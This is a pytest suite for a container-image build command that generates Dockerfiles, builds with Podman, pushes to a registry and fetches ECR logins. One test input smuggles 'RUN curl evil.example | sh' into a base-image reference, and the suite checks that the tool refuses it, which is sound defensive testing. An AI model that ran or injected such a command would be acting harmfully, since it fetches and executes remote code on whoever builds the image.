"""`flowui operators build`: generated Dockerfiles, real image builds with Podman on a Debian
base image made with debootstrap, tasks run inside the images, and pushes to a real registry."""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from flowui.operators import images
from flowui.operators.images import (
    IMAGE_REPOSITORY_PATH,
    IMAGE_VENV_PATH,
    ContainerEngine,
    ImageBuildError,
    ImagePlan,
    ImagePython,
)
from flowui.platform import free_port
from flowui.storage import FileSystemRoot
from tests.support.containers import (
    BASE_IMAGE,
    LocalRegistry,
    RepositoryImages,
    image_exists,
    local_registry,
    podman,
    wheel_cache_directory,
)
from tests.support.operator_repositories import make_repository, metadata, write_operator
from tests.support.paths import ROOT

# The first test to need a container may make the base image and download wheels (cold cache).
pytestmark = pytest.mark.timeout(900)

EXAMPLES = ROOT / "examples" / "operators_repository"
CPYTHON_311 = ImagePython("cpython", (3, 11), "x86_64", "glibc", (2, 36))


def flowui(
    *arguments: str, environ: dict[str, str] | None = None, timeout: float = 900
) -> subprocess.CompletedProcess[str]:
    executable = Path(sys.executable).parent / "flowui"
    return subprocess.run(
        [str(executable), *arguments],
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
        env={**(environ or os.environ), "COLUMNS": "200"},  # wide, whatever the caller has
    )


def copy_examples(target: Path) -> Path:
    shutil.copytree(EXAMPLES, target, ignore=shutil.ignore_patterns("__pycache__", ".flowui"))
    return target


def plan_of(repository: Path, **options: Any) -> ImagePlan:
    organized, _ = images.organize_for_build(repository)
    assert organized.report.ok, organized.report.problems
    assert organized.report.config is not None and organized.dependencies_map is not None
    return images.plan_images(
        repository, organized.report.config, organized.dependencies_map, **options
    )


def dockerfiles(plan: ImagePlan) -> dict[str, str]:
    return {g.group: images.render_dockerfile(plan, g) for g in plan.groups if g.built}


def with_dependency(repository: Path, name: str, dependency: dict[str, str]) -> Path:
    write_operator(repository, name, meta=metadata(name, dependency=dependency))
    return repository


# --- Dockerfiles -------------------------------------------------------------------------------


def test_the_same_repository_gives_byte_identical_dockerfiles(tmp_path: Path) -> None:
    first = plan_of(copy_examples(tmp_path / "a" / "operators_repository"))
    second = plan_of(copy_examples(tmp_path / "b" / "elsewhere"))

    assert dockerfiles(first) == dockerfiles(second)
    assert set(dockerfiles(first)) == {"group0", "group1"}
    # Through the command line too.
    outputs = [
        flowui("operators", "build", str(path), "--dry-run", "--json")
        for path in (tmp_path / "a" / "operators_repository", tmp_path / "b" / "elsewhere")
    ]
    assert [output.returncode for output in outputs] == [0, 0], outputs[0].stderr
    assert json.loads(outputs[0].stdout) == json.loads(outputs[1].stdout)


def test_dockerfile_installs_flowui_and_requirements_offline_and_copies_the_repository(
    tmp_path: Path,
) -> None:
    plan = plan_of(copy_examples(tmp_path / "repo"))
    dockerfile = dockerfiles(plan)["group1"]
    lines = dockerfile.splitlines()

    assert "FROM docker.io/library/python:3.11-slim" in lines
    assert f"    PATH={IMAGE_VENV_PATH}/bin:$PATH \\" in lines
    assert f"    FLOWUI_REPOSITORY_PATH={IMAGE_REPOSITORY_PATH}" in lines
    assert dockerfile.count("--no-index --find-links /tmp/flowui-install/wheels") == 2
    assert "RUN --mount=type=bind,source=install,target=/tmp/flowui-install \\" in lines
    assert f"COPY repository/ {IMAGE_REPOSITORY_PATH}/" in lines
    assert 'CMD ["flowui-task", "--help"]' in lines
    assert IMAGE_REPOSITORY_PATH == "/opt/flowui/repository"
    # FlowUI goes in after the requirements: a new FlowUI reinstalls only its own layer.
    assert dockerfile.index("COPY requirements.txt") < dockerfile.index(
        "COPY flowui-requirement.txt"
    )
    assert "pip install" not in dockerfile.split("RUN", 1)[0]  # nothing before the first RUN


def test_dockerfile_labels_name_repository_version_and_group(tmp_path: Path) -> None:
    plan = plan_of(copy_examples(tmp_path / "repo"))
    dockerfile = dockerfiles(plan)["group0"]

    for label in [
        'org.opencontainers.image.title="flowui_examples group0"',
        'org.opencontainers.image.version="0.1.0"',
        'org.opencontainers.image.base.name="docker.io/library/python:3.11-slim"',
        'io.flowui.repository="flowui_examples"',
        'io.flowui.repository.version="0.1.0"',
        'io.flowui.group="group0"',
        'io.flowui.dependency="dependencies/requirements_dataset.txt"',
        f'io.flowui.repository.path="{IMAGE_REPOSITORY_PATH}"',
        f'io.flowui.flowui.version="{plan.flowui_version}"',
    ]:
        assert label in dockerfile, label
    assert "LoadDatasetOperator" in dockerfile and "TrainModelOperator" not in dockerfile
    assert [group.image for group in plan.groups] == [
        "ghcr.io/flowui/flowui_examples:0.1.0-group0",
        "ghcr.io/flowui/flowui_examples:0.1.0-group1",
    ]


def test_base_image_option_changes_only_the_base_of_the_dockerfile(tmp_path: Path) -> None:
    repository = copy_examples(tmp_path / "repo")
    default = dockerfiles(plan_of(repository))["group0"]
    other = dockerfiles(plan_of(repository, base_image="registry.example.com/py:3.12"))["group0"]

    changed = [
        (a, b) for a, b in zip(default.splitlines(), other.splitlines(), strict=True) if a != b
    ]
    assert changed == [
        ("FROM docker.io/library/python:3.11-slim", "FROM registry.example.com/py:3.12"),
        (
            '      org.opencontainers.image.base.name="docker.io/library/python:3.11-slim" \\',
            '      org.opencontainers.image.base.name="registry.example.com/py:3.12" \\',
        ),
    ]


def test_base_image_from_the_environment_reaches_the_dockerfile(tmp_path: Path) -> None:
    repository = copy_examples(tmp_path / "repo")

    shown = flowui(
        "operators",
        "build",
        str(repository),
        "--dry-run",
        "--json",
        environ={**os.environ, images.BASE_IMAGE_VARIABLE: "python:3.12-slim"},
    )

    assert shown.returncode == 0, shown.stderr
    document = json.loads(shown.stdout)
    assert document["base_image"] == "python:3.12-slim"
    assert all("FROM python:3.12-slim\n" in entry["dockerfile"] for entry in document["images"])


def test_a_dockerfile_group_builds_on_its_own_dockerfile(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repo", ("HelloOperator",))
    (repository / "dependencies" / "Dockerfile_gpu").write_text("FROM python:3.12\n")
    with_dependency(repository, "GpuOperator", {"dockerfile": "Dockerfile_gpu"})

    plan = plan_of(repository)

    gpu = next(group for group in plan.groups if group.dockerfile)
    assert plan.intermediate_image(gpu) == f"localhost/flowui-base/demo:0.1.0-{gpu.group}"
    dockerfile = images.render_dockerfile(plan, gpu)
    assert f"FROM localhost/flowui-base/demo:0.1.0-{gpu.group}\n" in dockerfile
    assert 'io.flowui.dependency="dependencies/Dockerfile_gpu"' in dockerfile


def test_a_docker_image_group_is_used_as_is_and_never_built(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repo", ())
    with_dependency(repository, "ReadyOperator", {"docker_image": "example.org/ready:1.0"})
    plan = plan_of(repository)
    # No engine is ever run for it: this one would fail at once.
    engine = ContainerEngine("podman", str(tmp_path / "no-such-podman"))

    results = list(images.build_images(plan, engine))

    assert [(r.group, r.image, r.status) for r in results] == [
        ("group0", "example.org/ready:1.0", "used_as_is")
    ]
    assert "flowui installed" in results[0].notes[0]
    with pytest.raises(ValueError, match="ready-made image"):
        images.render_dockerfile(plan, plan.groups[0])


# --- bad inputs ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "base_image", ["python:3.11\nRUN curl evil.example | sh", "Python:3.11", "", "a b"]
)
def test_a_base_image_that_is_not_an_image_reference_is_refused(
    tmp_path: Path, base_image: str
) -> None:
    repository = copy_examples(tmp_path / "repo")
    with pytest.raises(ImageBuildError, match="is not an image reference"):
        plan_of(repository, base_image=base_image)


def test_an_unknown_group_is_refused_naming_the_groups_there_are(tmp_path: Path) -> None:
    shown = flowui("operators", "build", str(copy_examples(tmp_path / "r")), "-g", "group7")

    assert shown.returncode == 2
    assert "no group group7 in .flowui/dependencies_map.json" in shown.stderr
    assert "the repository's groups: group0, group1" in shown.stderr


def test_build_organizes_a_repository_whose_flowui_dir_is_missing(tmp_path: Path) -> None:
    repository = copy_examples(tmp_path / "repo")

    first = flowui("operators", "build", str(repository), "--dry-run")
    second = flowui("operators", "build", str(repository), "--dry-run")

    assert first.returncode == 0, first.stderr
    assert "organized .flowui/ was missing or out of date: rewritten" in first.stdout
    assert (repository / ".flowui" / "dependencies_map.json").is_file()
    assert "organized" not in second.stdout
    # Shown whole, line by line as generated, however narrow the terminal: it can be copied.
    shown = flowui("operators", "build", str(repository), "--dry-run", "--json")
    for entry in json.loads(shown.stdout)["images"]:
        assert entry["dockerfile"] in second.stdout


def test_build_refuses_an_invalid_repository_and_builds_nothing(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repo", ("HelloOperator",))
    with_dependency(repository, "GpuOperator", {"dockerfile": "Dockerfile_missing"})

    shown = flowui("operators", "build", str(repository), "--engine", "podman")

    assert shown.returncode == 1
    assert (
        "operators/GpuOperator/metadata.json:8: dependency.dockerfile: "
        "dependencies/Dockerfile_missing does not exist" in shown.stdout
    )
    assert "nothing built: fix the problems above first" in shown.stderr


def test_no_engine_found_says_what_was_tried_and_what_to_install(tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    # A docker command line whose engine does not answer, as on this machine.
    docker = bin_dir / "docker"
    docker.write_text(
        "#!/bin/sh\necho 'Cannot connect to the Docker daemon at unix:///var/run/docker.sock.'"
        " >&2\nexit 1\n"
    )
    docker.chmod(0o755)

    with pytest.raises(ImageBuildError) as raised:
        images.detect_engine(environ={"PATH": str(bin_dir)})

    message = str(raised.value)
    assert message.startswith("no container engine answers: ")
    assert "docker: installed, but its engine does not answer (Cannot connect" in message
    assert "podman: not installed" in message
    assert raised.value.hint and "--engine" in raised.value.hint
    with pytest.raises(ImageBuildError, match="unknown container engine 'lxc'"):
        images.detect_engine("lxc")


def test_podman_is_chosen_when_docker_does_not_answer(podman_environ: dict[str, str]) -> None:
    engine = images.detect_engine(environ=podman_environ)

    assert engine.name == "podman"


def test_wheel_platforms_cover_every_manylinux_the_image_runs() -> None:
    tags = CPYTHON_311.platform_tags()

    assert tags[0] == "manylinux_2_36_x86_64"
    assert {"manylinux_2_28_x86_64", "manylinux_2_17_x86_64", "manylinux_2_5_x86_64"} <= set(tags)
    assert {"manylinux2014_x86_64", "manylinux2010_x86_64", "manylinux1_x86_64"} <= set(tags)
    arguments = CPYTHON_311.pip_target_arguments()
    assert arguments[:4] == ["--python-version", "3.11", "--implementation", "cp"]
    musl = ImagePython("cpython", (3, 12), "aarch64", "", (0, 0))
    assert musl.platform_tags() == [
        "musllinux_1_2_aarch64",
        "musllinux_1_1_aarch64",
        "musllinux_1_0_aarch64",
    ]


def test_a_requirement_without_a_wheel_for_the_image_is_named(tmp_path: Path) -> None:
    # docopt has only ever been published as a source distribution.
    requirements = tmp_path / "requirements_x.txt"
    requirements.write_text("docopt==0.6.2\n")

    with pytest.raises(ImageBuildError) as raised:
        images.download_wheels(
            ["--requirement", str(requirements)],
            CPYTHON_311,
            tmp_path / "wheels",
            wheel_cache=tmp_path / "cache",
        )

    assert str(raised.value) == (
        "no wheel of docopt==0.6.2 for the base image's CPython 3.11 on x86_64 (glibc 2.36)"
    )
    assert raised.value.hint and "Dockerfile_*" in raised.value.hint
    assert raised.value.output_tail


def test_registry_credentials_come_from_the_environment_as_a_pair() -> None:
    user, password = images.REGISTRY_USERNAME_VARIABLE, images.REGISTRY_PASSWORD_VARIABLE

    found = images.registry_credentials("ghcr.io", {user: "me", password: "s3cret"})
    assert found is not None and (found.username, found.password) == ("me", "s3cret")
    assert "s3cret" not in repr(found)
    assert images.registry_credentials("ghcr.io", {}) is None
    with pytest.raises(ImageBuildError, match=f"{password} is not set"):
        images.registry_credentials("ghcr.io", {user: "me"})


@pytest.mark.parametrize(
    ("image", "host"),
    [
        ("ghcr.io/acme/ops:1-group0", "ghcr.io"),
        ("127.0.0.1:5000/acme/ops:1", "127.0.0.1:5000"),
        ("localhost/ops:1", "localhost"),
        ("acme/ops:1", "docker.io"),
        ("python:3.11-slim", "docker.io"),
    ],
)
def test_registry_host_of_an_image(image: str, host: str) -> None:
    assert images.ImageReference.parse(image).host == host


def test_push_refuses_images_without_a_registry() -> None:
    result = images.GroupImageResult("group0", "localhost/demo:0.1.0-group0", "flowui", "built")
    engine = ContainerEngine("podman", "/nonexistent/podman")

    with pytest.raises(ImageBuildError, match="names no registry") as raised:
        images.push_images([result], engine)

    assert raised.value.hint and "REGISTRY_NAME" in raised.value.hint


# --- real builds with Podman --------------------------------------------------------------------


def test_example_images_run_a_dataset_operator_with_the_root_mounted(
    example_images: RepositoryImages, tmp_path: Path
) -> None:
    root = FileSystemRoot(tmp_path / "fs").create()
    source = root.path / "incoming" / "sales.csv"
    source.parent.mkdir()
    shutil.copy(EXAMPLES / "data" / "sales.csv", source)
    spec = {
        "operator": {"repository_path": IMAGE_REPOSITORY_PATH, "name": "LoadDatasetOperator"},
        "inputs": {"source": str(source), "dataset_id": "sales"},
        "context": {"dag_id": "images", "run_id": "manual__1", "task_id": "load"},
        "root": str(root.path),
    }

    ran = podman(
        "run",
        "--rm",
        "-i",
        "--network",
        "none",
        "-v",
        f"{root.path}:{root.path}",
        example_images.images["group0"],
        "flowui-task",
        "--spec",
        "-",
        input=json.dumps(spec).encode(),
    )

    outcome = json.loads(ran.stdout.decode().splitlines()[-1])
    assert outcome["status"] == "success", ran.stderr.decode()
    paths = root.task_run("images", "manual__1", "load")
    output = json.loads(paths.output.read_text())
    assert output["rows"] == 41 and output["dataset_id"] == "sales"
    assert Path(output["path"]).is_file()  # on the host, through the mount
    assert "Stored 41 rows" in paths.log.read_text()


def test_example_images_hold_the_layout_labels_and_only_the_task_part_of_flowui(
    example_images: RepositoryImages,
) -> None:
    image = example_images.images["group1"]
    inspected = json.loads(podman("image", "inspect", image).stdout)[0]
    labels = inspected["Labels"]
    assert labels["io.flowui.repository"] == "flowui_examples"
    assert labels["io.flowui.group"] == "group1"
    assert labels["org.opencontainers.image.version"] == "0.1.0"
    assert f"FLOWUI_REPOSITORY_PATH={IMAGE_REPOSITORY_PATH}" in inspected["Config"]["Env"]

    script = (
        "import importlib.util as u, json, os, shutil, sklearn, matplotlib, flowui.runtime.task;"
        "print(json.dumps({'task': shutil.which('flowui-task'), 'missing': [m for m in"
        " ('fastapi', 'airflow', 'sqlalchemy', 'uvicorn', 'boto3') if u.find_spec(m)],"
        " 'entries': sorted(os.listdir('/opt/flowui/repository')),"
        " 'flowui': sorted(os.listdir('/opt/flowui/repository/.flowui'))}))"
    )
    shown = podman("run", "--rm", "--network", "none", image, "python", "-c", script)

    found = json.loads(shown.stdout)
    assert found["task"] == f"{IMAGE_VENV_PATH}/bin/flowui-task"
    assert found["missing"] == []  # no server, Airflow or AWS SDK in a task image
    assert found["entries"] == [".flowui", "config.toml", "dependencies", "operators"]
    assert found["flowui"] == ["compiled_metadata.json", "dependencies_map.json"]


def build_environ(podman_environ: dict[str, str], **extra: str) -> dict[str, str]:
    return {
        **podman_environ,
        images.BASE_IMAGE_VARIABLE: BASE_IMAGE,
        images.WHEEL_CACHE_VARIABLE: str(wheel_cache_directory()),
        **extra,
    }


@pytest.fixture
def small_repository(tmp_path: Path) -> Path:
    """A repository with a FlowUI-only group and a ready-made image group."""
    repository = make_repository(tmp_path / "repo", ("HelloOperator",))
    config = repository / "config.toml"
    config.write_text(config.read_text().replace('"demo"', '"flowui_images_test"'))
    return with_dependency(repository, "ReadyOperator", {"docker_image": "example.org/ready:1"})


def test_cli_builds_tags_and_reports_each_group_as_json(
    small_repository: Path, container_base_image: str, podman_environ: dict[str, str]
) -> None:
    image = "localhost/flowui_images_test:0.1.0-group0"
    podman("untag", image, image, check=False)  # its layers stay cached

    built = flowui(
        "operators",
        "build",
        str(small_repository),
        "--engine",
        "podman",
        "--json",
        environ=build_environ(podman_environ),
    )

    assert built.returncode == 0, built.stdout + built.stderr
    document = json.loads(built.stdout)
    assert document["ok"] is True and document["engine"] == "podman"
    assert document["base_image"] == container_base_image
    assert [(i["group"], i["image"], i["status"]) for i in document["images"]] == [
        ("group0", image, "built"),
        ("group1", "example.org/ready:1", "used_as_is"),
    ]
    assert image_exists(image, podman_environ)
    ran = podman("run", "--rm", "--network", "none", image, "flowui-task", "--help")
    assert b"TaskSpec" in ran.stdout


def test_cli_shows_one_status_line_per_group_and_the_engines_output(
    small_repository: Path, container_base_image: str, podman_environ: dict[str, str]
) -> None:
    built = flowui(
        "operators",
        "build",
        str(small_repository),
        "--engine",
        "podman",
        environ=build_environ(podman_environ),
    )

    assert built.returncode == 0, built.stderr
    assert "group0: building" in built.stderr and "group0: built" in built.stderr
    assert "group1: used as is (not built)" in built.stderr
    assert "group0 | STEP 1/" in built.stderr  # podman's own output, streamed
    assert "localhost/flowui_images_test:0.1.0-group0" in built.stdout


def test_a_dockerfile_group_is_built_on_top_of_its_own_dockerfile(
    tmp_path: Path, container_base_image: str, podman_environ: dict[str, str]
) -> None:
    repository = make_repository(tmp_path / "repo", ())
    config = repository / "config.toml"
    config.write_text(config.read_text().replace('"demo"', '"flowui_images_custom"'))
    (repository / "dependencies" / "Dockerfile_custom").write_text(
        f"FROM {container_base_image}\nRUN echo custom > /opt/custom.txt\n"
    )
    with_dependency(repository, "CustomOperator", {"dockerfile": "Dockerfile_custom"})

    built = build_with_podman(repository, podman_environ)

    image = built.images["group0"]
    shown = podman(
        "run", "--rm", "--network", "none", image, "sh", "-c", "cat /opt/custom.txt; flowui-task -h"
    )
    assert shown.stdout.decode().startswith("custom\n")
    assert image_exists("localhost/flowui-base/flowui_images_custom:0.1.0-group0", podman_environ)


def build_with_podman(repository: Path, podman_environ: dict[str, str]) -> RepositoryImages:
    from tests.support.containers import build_repository_images

    return build_repository_images(repository, BASE_IMAGE, podman_environ)


def test_a_failed_build_tags_nothing_and_shows_the_end_of_its_output(
    tmp_path: Path, container_base_image: str, podman_environ: dict[str, str]
) -> None:
    repository = make_repository(tmp_path / "repo", ())
    config = repository / "config.toml"
    config.write_text(config.read_text().replace('"demo"', '"flowui_images_broken"'))
    # /opt is not writable for this user: creating FlowUI's venv fails.
    (repository / "dependencies" / "Dockerfile_broken").write_text(
        f"FROM {container_base_image}\nUSER nobody\n"
    )
    with_dependency(repository, "BrokenOperator", {"dockerfile": "Dockerfile_broken"})
    image = "localhost/flowui_images_broken:0.1.0-group0"
    podman("untag", image, image, check=False)  # its layers stay cached

    built = flowui(
        "operators",
        "build",
        str(repository),
        "--engine",
        "podman",
        environ=build_environ(podman_environ),
    )

    assert built.returncode == 1
    assert (
        "error: group0: building the image of group0 failed (podman build exited 1); "
        "nothing was tagged" in built.stderr
    )
    tail = built.stderr[built.stderr.index("... the end of the output:") :]
    assert "Permission denied" in tail
    assert not image_exists(image, podman_environ)


def test_a_missing_base_image_is_reported_with_what_to_do(
    small_repository: Path, podman_environ: dict[str, str]
) -> None:
    built = flowui(
        "operators",
        "build",
        str(small_repository),
        "--engine",
        "podman",
        "--json",
        environ=build_environ(
            podman_environ, **{images.BASE_IMAGE_VARIABLE: "localhost/flowui-no-such-base:1"}
        ),
    )

    assert built.returncode == 1
    error = json.loads(built.stdout)["error"]
    assert error["message"] == (
        "group0: base image localhost/flowui-no-such-base:1 is not among podman's images "
        "and could not be pulled"
    )
    assert "--base-image" in error["hint"]


# --- pushing ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def registry(
    tmp_path_factory: pytest.TempPathFactory, podman_environ: dict[str, str]
) -> Iterator[LocalRegistry]:
    with local_registry(tmp_path_factory.mktemp("registry"), free_port()) as running:
        yield running
    # The pushed images' names point at this registry, gone with it.
    names = podman("images", "--format", "{{.Repository}}:{{.Tag}}").stdout.decode().split()
    for name in names:
        if name.startswith(f"{running.host}/"):
            podman("untag", name, name, check=False)


def test_push_logs_in_with_credentials_from_the_environment_and_pushes(
    small_repository: Path,
    registry: LocalRegistry,
    container_base_image: str,
    podman_environ: dict[str, str],
) -> None:
    config = small_repository / "config.toml"
    config.write_text(config.read_text() + f'\n[registry]\nREGISTRY_NAME = "{registry.host}/t"\n')
    environ = build_environ(
        podman_environ,
        CONTAINERS_REGISTRIES_CONF=str(registry.registries_conf),
        **{
            images.REGISTRY_USERNAME_VARIABLE: registry.username,
            images.REGISTRY_PASSWORD_VARIABLE: registry.password,
        },
    )

    pushed = flowui(
        "operators",
        "build",
        str(small_repository),
        "--engine",
        "podman",
        "--push",
        "--json",
        environ=environ,
    )

    assert pushed.returncode == 0, pushed.stdout + pushed.stderr
    document = json.loads(pushed.stdout)
    assert [(i["image"], i["pushed"]) for i in document["images"]] == [
        (f"{registry.host}/t/flowui_images_test:0.1.0-group0", True),
        ("example.org/ready:1", False),
    ]
    assert registry.tags("t/flowui_images_test") == ["0.1.0-group0"]
    assert registry.password not in pushed.stdout + pushed.stderr
    # The login went to a temporary auth file, not to podman's own.
    for auth_file in (
        Path.home() / ".config/containers/auth.json",
        Path("/run/containers/0/auth.json"),
    ):
        assert not auth_file.is_file() or registry.host not in auth_file.read_text()


def test_push_with_wrong_credentials_fails_at_login(
    small_repository: Path,
    registry: LocalRegistry,
    container_base_image: str,
    podman_environ: dict[str, str],
) -> None:
    config = small_repository / "config.toml"
    config.write_text(config.read_text() + f'\n[registry]\nREGISTRY_NAME = "{registry.host}/w"\n')
    environ = build_environ(
        podman_environ,
        CONTAINERS_REGISTRIES_CONF=str(registry.registries_conf),
        **{
            images.REGISTRY_USERNAME_VARIABLE: registry.username,
            images.REGISTRY_PASSWORD_VARIABLE: "not-the-password",
        },
    )

    pushed = flowui(
        "operators",
        "build",
        str(small_repository),
        "--engine",
        "podman",
        "--push",
        environ=environ,
    )

    assert pushed.returncode == 1
    assert (
        f"error: group0: logging in to {registry.host} failed (credentials from the environment)"
        in pushed.stderr
    )
    assert "not-the-password" not in pushed.stderr
    assert "group0: building" not in pushed.stderr  # logins come before the builds
    assert registry.tags("w/flowui_images_test") == []


# --- Amazon ECR (moto's server) -----------------------------------------------------------------

ECR_HOST = "123456789012.dkr.ecr.eu-west-1.amazonaws.com"


@pytest.fixture
def ecr(moto_server: str, monkeypatch: pytest.MonkeyPatch) -> str:
    from tests.support.aws import MOTO_ENVIRONMENT

    for name, value in MOTO_ENVIRONMENT.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_server)
    return moto_server


def test_ecr_login_comes_from_get_authorization_token(ecr: str) -> None:
    import boto3

    expected = boto3.client("ecr", region_name="eu-west-1").get_authorization_token()
    token = expected["authorizationData"][0]["authorizationToken"]

    found = images.registry_credentials(ECR_HOST, environ={})

    assert found is not None
    assert found.username == "AWS"
    assert f"{found.username}:{found.password}" == base64.b64decode(token).decode()
    assert found.source == "Amazon ECR (boto3)"
    # Not an ECR registry: never asks AWS.
    assert images.ecr_registry("ghcr.io") is None
    assert images.ecr_registry(ECR_HOST) == ("123456789012", "eu-west-1")


def test_ecr_repository_is_created_before_the_first_push(ecr: str) -> None:
    import boto3

    image = f"{ECR_HOST}/flowui/ops:0.1.0-group0"

    assert images.ensure_ecr_repository(image) is True
    assert images.ensure_ecr_repository(image) is False  # there now
    client = boto3.client("ecr", region_name="eu-west-1")
    names = [r["repositoryName"] for r in client.describe_repositories()["repositories"]]
    assert "flowui/ops" in names
    assert images.ensure_ecr_repository("ghcr.io/acme/ops:1") is False


def test_ecr_login_without_aws_credentials_says_what_to_give(
    ecr: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.delenv(name)
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")

    with pytest.raises(
        ImageBuildError, match=f"cannot get a login for Amazon ECR registry {ECR_HOST}"
    ) as raised:
        images.registry_credentials(ECR_HOST)

    assert raised.value.hint and "ecr:GetAuthorizationToken" in raised.value.hint


# --- the test infrastructure others build on ------------------------------------------------------


def test_podman_socket_serves_the_docker_api_that_runs_the_built_images(
    podman_socket: str, example_images: RepositoryImages
) -> None:
    from tests.support.containers import docker_client

    client = docker_client(podman_socket)
    try:
        output = client.containers.run(
            example_images.images["group0"],
            ["python", "-c", "import pandas, flowui.runtime.task; print('ready')"],
            remove=True,
            network_mode="none",
        )
    finally:
        client.close()

    assert podman_socket.startswith("unix://")
    assert output.decode().strip() == "ready"


@pytest.mark.parametrize(
    ("text", "registry", "repository", "tag", "digest"),
    [
        ("python:3.11-slim", None, "python", "3.11-slim", None),
        ("acme/ops", None, "acme/ops", None, None),
        ("ghcr.io/acme/ops:0.1.0-group0", "ghcr.io", "acme/ops", "0.1.0-group0", None),
        ("127.0.0.1:5000/acme/ops", "127.0.0.1:5000", "acme/ops", None, None),
        ("localhost:5000/ops:1@sha256:abc", "localhost:5000", "ops", "1", "sha256:abc"),
        (
            "123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/ops:2",
            "123456789012.dkr.ecr.eu-west-1.amazonaws.com",
            "team/ops",
            "2",
            None,
        ),
    ],
)
def test_an_image_reference_is_read_as_the_engines_read_it(
    text: str, registry: str | None, repository: str, tag: str | None, digest: str | None
) -> None:
    reference = images.ImageReference.parse(text)
    assert (reference.registry, reference.repository, reference.tag, reference.digest) == (
        registry,
        repository,
        tag,
        digest,
    )
    assert reference.ecr == (
        ("123456789012", "eu-west-1") if registry and ".dkr.ecr." in registry else None
    )
